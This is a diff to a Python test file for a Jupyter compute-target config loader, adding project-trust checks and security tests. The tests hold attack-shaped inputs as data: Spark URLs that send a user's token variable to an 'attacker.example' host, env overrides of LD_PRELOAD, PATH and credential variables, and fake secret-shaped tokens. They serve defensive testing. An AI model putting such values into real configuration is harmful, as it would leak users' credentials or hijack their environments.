@@ -33,12 +33,15 @@ GOOD = [
 ]
 
 
-def write_json(root, compute):
+def write_json(root, compute, trust=None):
+    """The project file; ``trust`` (the trust_project fixture) trusts it as the user would."""
     (root / "nbcraft.json").write_text(json.dumps({"extends": "recommended", "compute": compute}))
+    if trust is not None:
+        trust(root)
 
 
-def test_every_kind_parses_from_nbcraft_json(tmp_path):
-    write_json(tmp_path, {"targets": GOOD})
+def test_every_kind_parses_from_nbcraft_json(tmp_path, trust_project):
+    write_json(tmp_path, {"targets": GOOD}, trust_project)
     loaded = load_targets(tmp_path)
     assert loaded.problems == []
     by_name = {t.name: t for t in loaded.targets}
@@ -55,7 +58,7 @@ def test_every_kind_parses_from_nbcraft_json(tmp_path):
     assert by_name["laptop"].key == "compute.targets[0]"
 
 
-def test_pyproject_tool_nbcraft_is_read_when_there_is_no_nbcraft_json(tmp_path):
+def test_pyproject_tool_nbcraft_is_read_when_there_is_no_nbcraft_json(tmp_path, trust_project):
     (tmp_path / "pyproject.toml").write_text(
         '[project]\nname = "x"\n\n'
         '[[tool.nbcraft.compute.targets]]\nname = "spark"\nkind = "spark-connect"\n'
@@ -63,6 +66,7 @@ def test_pyproject_tool_nbcraft_is_read_when_there_is_no_nbcraft_json(tmp_path):
         '[[tool.nbcraft.compute.targets]]\nname = "bad"\nkind = "spark-connect"\n'
         'url = "http://localhost:15002"\n'
     )
+    trust_project(tmp_path)
     loaded = load_targets(tmp_path)
     assert [t.name for t in loaded.targets] == ["spark"]
     expected = (
@@ -72,16 +76,16 @@ def test_pyproject_tool_nbcraft_is_read_when_there_is_no_nbcraft_json(tmp_path):
     assert [str(p) for p in loaded.problems] == [expected]
 
 
-def test_nbcraft_json_wins_over_pyproject(tmp_path):
-    write_json(tmp_path, {"targets": [GOOD[1]]})
+def test_nbcraft_json_wins_over_pyproject(tmp_path, trust_project):
+    write_json(tmp_path, {"targets": [GOOD[1]]}, trust_project)
     (tmp_path / "pyproject.toml").write_text(
         '[[tool.nbcraft.compute.targets]]\nname = "other"\nkind = "local"\nkernel = "python3"\n'
     )
     assert [t.name for t in load_targets(tmp_path).targets] == ["spark-local"]
 
 
-def test_jupyter_config_targets_are_added_and_names_must_be_unique(tmp_path):
-    write_json(tmp_path, {"targets": [GOOD[1]]})
+def test_jupyter_config_targets_are_added_and_names_must_be_unique(tmp_path, trust_project):
+    write_json(tmp_path, {"targets": [GOOD[1]]}, trust_project)
     extra = [
         {"name": "spark-local", "kind": "local", "kernel": "python3"},
         {"name": "laptop", "kind": "local", "kernel": "python3"},
@@ -168,46 +172,114 @@ def test_malformed_target_names_the_key(item, key, fragment):
     ), texts
 
 
-def test_secrets_must_be_variable_references():
-    literal = parse_target(
-        {"name": "s", "kind": "spark-connect", "url": "sc://h:443/;token=abc123secret"},
-        "nbcraft.json",
-        "compute.targets[0]",
+def parse(item):
+    return parse_target(item, "nbcraft.json", "compute.targets[0]")
+
+
+def problems_of(item):
+    parsed = parse(item)
+    assert isinstance(parsed, list), f"accepted: {parsed}"
+    return [str(p) for p in parsed]
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "sc://attacker.example:443/;token=${DATABRICKS_TOKEN}",
+        "sc://attacker.example:443/;user_id=$DATABRICKS_TOKEN",
+        "sc://h:443/;token=abc123secret",
+    ],
+)
+def test_no_credential_or_variable_reaches_a_spark_url(url):
+    """The attack: a project URL that interpolates the user's token, sent to its host."""
+    [problem] = problems_of({"name": "s", "kind": "spark-connect", "url": url})
+    assert problem.startswith("nbcraft.json: compute.targets[0].url: ")
+    assert "abc123secret" not in problem  # the error does not echo a secret
+
+
+def test_no_variable_in_a_gateway_url():
+    [problem] = problems_of(
+        {"name": "g", "kind": "gateway", "url": "https://${DATABRICKS_HOST}/", "kernel": "k"}
     )
-    assert isinstance(literal, list)
-    assert "never written into kernelspecs" in str(literal[0])
-    assert "abc123secret" not in str(literal[0])  # the error does not echo the secret
-    env_secret = parse_target(
+    assert problem.startswith("nbcraft.json: compute.targets[0].url: no $VAR or ${VAR}")
+
+
+@pytest.mark.parametrize(
+    "var",
+    [
+        "LD_PRELOAD",
+        "PYTHONPATH",
+        "PYTHONSTARTUP",
+        "PATH",
+        "DATABRICKS_HOST",
+        "DATABRICKS_TOKEN",
+        "MLFLOW_TRACKING_URI",
+        "MLFLOW_TRACKING_TOKEN",
+        "SPARK_REMOTE",
+        "AZURE_CLIENT_SECRET",
+        "JAVA_HOME",
+    ],
+)
+def test_env_may_set_only_allowed_variables(var):
+    [problem] = problems_of(
+        {"name": "d", "kind": "databricks-connect", "profile": "dev", "serverless": True,
+         "env": {var: "https://attacker.example"}}
+    )  # fmt: skip
+    assert problem.startswith(f"nbcraft.json: compute.targets[0].env.{var}: a target may not")
+    assert "attacker" not in problem
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "dapi0123456789abcdef0123456789abcdef",
+        "ghp_" + "a1B2" * 9,
+        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl",
+        "AKIAABCDEFGHIJKLMNOP",
+        "q8Zr3vN1xT5pL0wK7yH2mB9cD4fG6jS1",
+        "${DATABRICKS_TOKEN}",
+    ],
+)
+def test_secret_shaped_values_are_refused_whatever_the_name(value):
+    [problem] = problems_of(
+        {"name": "s", "kind": "spark-connect", "url": "sc://h:1", "env": {"TZ": value}}
+    )
+    assert problem.startswith("nbcraft.json: compute.targets[0].env.TZ: ")
+    assert value not in problem
+
+
+def test_plain_allowed_env_is_kept():
+    ok = parse(
         {
             "name": "s",
             "kind": "spark-connect",
             "url": "sc://h:1",
-            "env": {"DATABRICKS_TOKEN": "dapi0123456789abcdef0123456789abcdef"},
-        },
-        "nbcraft.json",
-        "compute.targets[0]",
+            "env": {"TZ": "Europe/Paris", "MLFLOW_EXPERIMENT_NAME": "/Shared/churn-model"},
+        }
     )
-    assert isinstance(env_secret, list)
-    assert str(env_secret[0]).startswith("nbcraft.json: compute.targets[0].env.DATABRICKS_TOKEN:")
-    assert "dapi0123" not in str(env_secret[0])
-    ok = parse_target(
-        {
-            "name": "s",
-            "kind": "spark-connect",
-            "url": "sc://h:443/;token=${SC_TOKEN}",
-            "env": {"DATABRICKS_TOKEN": "${DATABRICKS_TOKEN}", "PLAIN": "1"},
-        },
-        "nbcraft.json",
-        "compute.targets[0]",
-    )
-    assert not isinstance(ok, list)
+    assert not isinstance(ok, list) and ok.env["TZ"] == "Europe/Paris"
 
 
-def test_unreadable_files_are_located(tmp_path):
+def test_untrusted_project_targets_are_held_back(tmp_path, trust_project):
+    write_json(tmp_path, {"targets": GOOD})
+    loaded = load_targets(tmp_path, [{"name": "mine", "kind": "local", "kernel": "python3"}])
+    assert [t.name for t in loaded.targets] == ["mine"]  # the user's own config still acts
+    [held] = [str(p) for p in loaded.problems]
+    assert held.startswith("nbcraft.json: compute: held back: the file is not trusted, so 5")
+    assert "jupyter nbcraft trust" in held
+    trust_project(tmp_path)
+    assert len(load_targets(tmp_path).targets) == 5
+    # Any change to the file: untrusted again.
+    write_json(tmp_path, {"targets": GOOD[:1]})
+    assert load_targets(tmp_path).targets == []
+
+
+def test_unreadable_files_are_located(tmp_path, trust_project):
     (tmp_path / "nbcraft.json").write_text('{"compute": {"targets": [}')
     [problem] = load_targets(tmp_path).problems
     assert str(problem).startswith("nbcraft.json: line 1 column 26: invalid JSON")
     (tmp_path / "nbcraft.json").write_text('{"compute": {"targets": {"name": "x"}}}')
+    trust_project(tmp_path)
     [problem] = load_targets(tmp_path).problems
     assert str(problem) == "nbcraft.json: compute.targets: expected a list"
     (tmp_path / "nbcraft.json").write_text("[1]")
@@ -219,8 +291,10 @@ def test_unreadable_files_are_located(tmp_path):
     )
 
 
-def test_good_targets_survive_a_bad_neighbour_and_strict_mode_raises(tmp_path):
-    write_json(tmp_path, {"targets": [GOOD[0], {"name": "x", "kind": "gateway"}, GOOD[1]]})
+def test_good_targets_survive_a_bad_neighbour_and_strict_mode_raises(tmp_path, trust_project):
+    write_json(
+        tmp_path, {"targets": [GOOD[0], {"name": "x", "kind": "gateway"}, GOOD[1]]}, trust_project
+    )
     loaded = load_targets(tmp_path)
     assert [t.name for t in loaded.targets] == ["laptop", "spark-local"]
     assert {p.key for p in loaded.problems} == {
